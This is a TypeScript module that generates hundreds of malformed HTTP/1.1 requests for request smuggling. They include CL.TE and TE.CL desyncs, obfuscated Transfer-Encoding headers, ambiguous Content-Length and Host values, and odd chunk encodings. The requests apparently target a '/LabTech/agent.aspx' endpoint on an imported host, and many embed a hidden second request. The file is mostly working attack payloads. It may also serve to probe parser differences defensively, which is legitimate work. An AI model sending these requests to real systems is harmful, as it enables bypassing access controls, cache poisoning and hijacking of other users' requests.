import { automateHost as host } from './engine.ts'

/** One request, or several in one go, that two readers could understand differently, to be sent byte for byte. */
export interface Mutation {
  readonly how: string
  readonly bytes: string
}

const target = '/LabTech/agent.aspx'
const start = `POST ${target} HTTP/1.1\r\nHost: ${host}\r\n`
/** What an attacker wants the origin to take for a request of its own. */
const hidden = 'GET /LabTech/hidden HTTP/1.1\r\nHost: x\r\n\r\n'
const chunked = `0\r\n\r\n${hidden}`

/** Bytes that one reader skips or takes for blank and another does not. */
const oddBytes = [
  ...[0, 1, 4, 8, 9, 10, 11, 12, 13, 14, 27, 28, 31, 32, 34, 39, 44, 59, 95],
  ...[127, 128, 133, 160, 173, 255],
]
const hex = (code: number): string => `x${code.toString(16).padStart(2, '0')}`

/** Ways of writing Transfer-Encoding that some server reads and another does not (defparam/smuggler, http-garden). */
function encodings(): readonly (readonly [how: string, line: string])[] {
  const around = oddBytes.flatMap((code): [string, string][] => {
    const byte = String.fromCharCode(code)
    const at = (place: string, line: string): [string, string] => [`TE, ${hex(code)} ${place}`, line]
    return [
      at('in front of the name', `${byte}Transfer-Encoding: chunked`),
      at('inside the name', `Transfer${byte}Encoding: chunked`),
      at('behind the name', `Transfer-Encoding${byte}: chunked`),
      at('behind the colon', `Transfer-Encoding:${byte}${byte}chunked${code === 9 || code === 32 ? ',' : ''}`),
      at('behind the value', `Transfer-Encoding: chunked${byte}${code === 9 || code === 32 ? 'x' : 'x'}`),
      at('at the end', `Transfer-Encoding: chunked${byte}${code === 9 || code === 32 ? '\x0b' : ''}`),
      at('inside the value', `Transfer-Encoding: chu${byte}nked`),
      at('and another header in front', `X: y${byte}Transfer-Encoding: chunked`),
      at('and a line break in front', `X: y\r${byte}Transfer-Encoding: chunked`),
      at('and a line feed in front', `X: y${byte}\nTransfer-Encoding: chunked`),
      at('folded', `Transfer-Encoding:\r\n${byte}chunked`),
      at('folded behind', `Transfer-Encoding: chunked\r\n${byte}x`),
    ]
  })
  const values = [
    ...[
      'chunkedx',
      'xchunked',
      'identity',
      'gzip',
      'gzip, chunked',
      'chunked, identity',
      'chunked, chunked',
      ', chunked',
    ],
    ...[
      'chunked;q=1',
      '"chunked"',
      "'chunked'",
      'chunk',
      'cow',
      '',
      'chunked,',
      'identity, chunked',
      'CHUNKED x',
      '[chunked]',
    ],
    ...['chunked gzip', '{chunked}', 'ch\u00fcnked', '\u0130chunked', '\ufb01chunked', 'chunked\t;x'],
  ].map((value): [string, string] => [`TE: ${value}`, `Transfer-Encoding: ${value}`])
  const names = [
    'Transfer_Encoding',
    'Transfer Encoding',
    'Transfer.Encoding',
    'Transfer-Encoding-',
    '-Transfer-Encoding',
    'TransferEncoding',
    'Transfer--Encoding',
    '"Transfer-Encoding"',
    'Tr\u00e4nsfer-Encoding',
    'Content-Encoding',
  ]
  return [
    ...around,
    ...values,
    ...names.map((name): [string, string] => [`${name}`, `${name}: chunked\r\nContent_Length: 4`]),
    ['two TE', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked'],
    ['two TE, the second unknown', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: cow'],
    ['two TE, the first unknown', 'Transfer-Encoding: cow\r\ntransfer-encoding: chunked'],
    ['two TE, one identity', 'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked'],
  ]
}

function besideLength(): Mutation[] {
  return encodings().flatMap(([how, line]) => [
    { how: `CL.TE, ${how}`, bytes: `${start}Content-Length: ${chunked.length}\r\n${line}\r\n\r\n${chunked}` },
    { how: `TE.CL, ${how}`, bytes: `${start}${line}\r\nContent-Length: 4\r\n\r\n${chunked}` },
  ])
}

const lengths = [
  ...[
    '+5',
    '-5',
    '5x',
    '0x5',
    '05',
    '5.0',
    '5e0',
    '5 5',
    '5,5',
    '5, 6',
    '1_0',
    '',
    ' ',
    '5;',
    '"5"',
    '\u0665',
    '5\u00a0',
  ],
  ...[
    '9999999999999999',
    '18446744073709551621',
    '4294967301',
    '5\0',
    '\x0b5',
    '5\x0c',
    '5\r',
    '5\n',
    '\n5',
    '00',
    '5\t5',
  ],
]

function lengthMutations(): Mutation[] {
  const body = `hello${hidden}`
  return [
    ...lengths.map((value) => ({ how: `CL: ${value}`, bytes: `${start}Content-Length: ${value}\r\n\r\n${body}` })),
    ...['5', '6', '0', `${body.length}`].flatMap((second) => [
      {
        how: `two CL, 5 and ${second}`,
        bytes: `${start}Content-Length: 5\r\ncontent-length: ${second}\r\n\r\n${body}`,
      },
      {
        how: `two CL, ${second} and 5`,
        bytes: `${start}Content-Length: ${second}\r\nContent-Length: 5\r\n\r\n${body}`,
      },
    ]),
    ...[
      'Content_Length',
      'Content Length',
      'Content-Length ',
      ' Content-Length',
      'Content\tLength',
      'Content-Length\0',
      '\x0bContent-Length',
      'Content-Length\r',
      'X:\nContent-Length',
    ].map((name) => ({ how: `${name}`, bytes: `${start}${name}: ${hidden.length}\r\n\r\n${hidden}` })),
  ]
}

const hosts = [
  ...[
    `user@${host}`,
    `user:pass@${host}`,
    `${host}/x`,
    `${host}?x`,
    `${host}#x`,
    `${host}:443:443`,
    `${host}:`,
    `${host}:0x1bb`,
  ],
  ...[
    `${host}:123456`,
    `${host}.`,
    `.${host}`,
    `${host}, ${host}`,
    `${host} x`,
    `x ${host}`,
    `http://${host}`,
    '',
    'localhost',
  ],
  ...[
    '127.0.0.1',
    '[::1]',
    `${host}\\x`,
    `${host}%00`,
    `${host}\0`,
    `x.${host}`,
    `${host}:443@x`,
    `${host};x`,
    `\u00e4${host}`,
  ],
  ...[`${host}:-1`, `${host}: 443`, `${host}\r\n x`, `${host}\r\n\tx`, `\t\x0b${host}`],
]

function hostMutations(): Mutation[] {
  const line = `GET ${target} HTTP/1.1\r\n`
  const end = 'Connection: close\r\n\r\n'
  return [
    ...hosts.map((value) => ({ how: `Host: ${value}`, bytes: `${line}Host: ${value}\r\n${end}` })),
    { how: 'no Host', bytes: `${line}${end}` },
    { how: 'two Hosts', bytes: `${line}Host: ${host}\r\nHost: ${host}\r\n${end}` },
    { how: 'two different Hosts', bytes: `${line}Host: ${host}\r\nhost: x\r\n${end}` },
    { how: 'two different Hosts the other way', bytes: `${line}Host: x\r\nHOST: ${host}\r\n${end}` },
    { how: 'Host with a blank behind its name', bytes: `${line}Host : ${host}\r\n${end}` },
    { how: 'Host in the first line, folded', bytes: `${line} Host: ${host}\r\nHost: ${host}\r\n${end}` },
    { how: 'Host with an underscore beside it', bytes: `${line}Host: ${host}\r\nHo_st: x\r\n${end}` },
  ]
}

function lineMutations(): Mutation[] {
  const rest = `\r\nHost: ${host}\r\nConnection: close\r\n\r\n`
  const versions = [
    '',
    ' ',
    ' HTTP/0.9',
    ' HTTP/1.2',
    ' HTTP/1',
    ' HTTP/1.10',
    ' HTTP/01.1',
    ' HTTP/2.0',
    ' HTTP/3',
    ' http/1.1',
    ' HTTP /1.1',
    ' HTTP/1.1 ',
    ' HTTP/1.1x',
    ' HTTP/1.1 HTTP/1.1',
    ' HTTP/1.-1',
    ' HTTPS/1.1',
    ' ICY/1.1',
    '  HTTP/1.1',
    '\tHTTP/1.1',
    ' HTTP/1.1\t',
  ]
  const targets = [
    `http://${host}${target}`,
    `https://x${target}`,
    `//${host}${target} x`,
    '*',
    host,
    `${host}:443`,
    'x',
    `${target}#x`,
    `${target} x`,
    `${target}\tx`,
    `${target}\0`,
    `${target}\x7f`,
    `${target}\xff`,
    `${target}\u00e4`,
    '\\x',
    '?x',
    '',
    `${target}\r`,
    `${target}\nX: y`,
    `@x${target}`,
  ]
  const methods = [
    'get',
    'Get',
    'G ET',
    'GE\0T',
    'GET\t',
    'TRACE',
    'CONNECT',
    'PRI',
    'XYZ',
    'PROPFIND',
    'GETGETGETGET',
    'G',
    '',
    ' GET',
    '\r\nGET',
    '\nGET',
    '\0GET',
    '\x16\x03GET',
    'G\u00cbT',
    'GET,',
    '"GET"',
    'POST\u00a0',
  ]
  return [
    ...versions.map((version) => ({ how: `version "${version}"`, bytes: `GET ${target}${version}${rest}` })),
    ...targets.map((odd) => ({ how: `target "${odd}"`, bytes: `GET ${odd} HTTP/1.1${rest}` })),
    ...methods.map((method) => ({ how: `method "${method}"`, bytes: `${method} ${target} HTTP/1.1${rest}` })),
    { how: 'HTTP/0.9', bytes: `GET ${target}\r\n\r\n` },
    { how: 'HTTP/2 by prior knowledge', bytes: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0' },
    { how: 'line feeds only', bytes: `GET ${target} HTTP/1.1\nHost: ${host}\n\n` },
    { how: 'a line feed at the end', bytes: `GET ${target} HTTP/1.1\r\nHost: ${host}\n\r\n` },
    { how: 'a line feed behind the first line', bytes: `GET ${target} HTTP/1.1\nHost: ${host}\r\n\r\n` },
    { how: 'carriage returns only', bytes: `GET ${target} HTTP/1.1\rHost: ${host}\r\r\r\n\r\n` },
    { how: 'a line without a colon', bytes: `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nnothing\r\n\r\n` },
    { how: 'a nameless line', bytes: `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n: x\r\n\r\n` },
    { how: 'a carriage return in a value', bytes: `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nX: a\rY: b\r\n\r\n` },
    {
      how: 'a head beyond 16 KB',
      bytes: `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nX: ${'x'.repeat(17_000)}\r\n\r\n`,
    },
    { how: 'a target beyond 16 KB', bytes: `GET ${target}?${'x'.repeat(17_000)} HTTP/1.1\r\nHost: ${host}\r\n\r\n` },
    { how: 'many headers', bytes: `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n${'X: y\r\n'.repeat(3000)}\r\n` },
  ]
}

/** Chunks that some server reads otherwise. The head is in order, so that the origin may hear of it. */
function chunkMutations(): Mutation[] {
  const head = `${start}Transfer-Encoding: chunked\r\n\r\n`
  const bodies = [
    ...[
      `5\nhello\r\n0\r\n\r\n`,
      `5\r\nhello\n0\r\n\r\n`,
      `5\r\nhello0\r\n\r\n`,
      `0x5\r\nhello\r\n0\r\n\r\n`,
      `+5\r\nhello\r\n0\r\n\r\n`,
      `-5\r\nhello\r\n0\r\n\r\n`,
    ],
    ...[
      `5 \x0b\r\nhello\r\n0\r\n\r\n`,
      ` 5\r\nhello\r\n0\r\n\r\n`,
      `\r\n5\r\nhello\r\n0\r\n\r\n`,
      `5\rhello\r\n0\r\n\r\n`,
      `g\r\nhello\r\n0\r\n\r\n`,
      `;x\r\nhello\r\n0\r\n\r\n`,
    ],
    ...[
      `fffffffffffffffff\r\nhello\r\n0\r\n\r\n`,
      `100000000000000005\r\nhello\r\n0\r\n\r\n`,
      `5\r\nhello\r\n0\n\n`,
      `5\r\nhello\r\n0\r\n\n`,
      `0\n\r\n`,
      `0\r\nX: y\n\r\n`,
    ],
    ...[
      `5;a=\n5\r\nhello\r\n0\r\n\r\n`,
      `5;a="\r\nhello\r\n0\r\n\r\n`,
      `5;\0\r\nhello\r\n0\r\n\r\n`,
      `5_\r\nhello\r\n0\r\n\r\n`,
      `5,5\r\nhello\r\n0\r\n\r\n`,
      `5\t\r\nhello\r\n0\r\n\r\n`,
    ],
  ]
  return bodies.flatMap((body) => [
    { how: `chunks ${JSON.stringify(body)}`, bytes: `${head}${body}` },
    {
      how: `chunks of a body that nobody inspects ${JSON.stringify(body)}`,
      bytes: `${head.replace('agent.aspx', 'x')}${body}`,
    },
  ])
}

/** Everything that is known to have been read in two ways. */
export const mutations: readonly Mutation[] = [
  ...besideLength(),
  ...lengthMutations(),
  ...hostMutations(),
  ...lineMutations(),
  ...chunkMutations(),
]
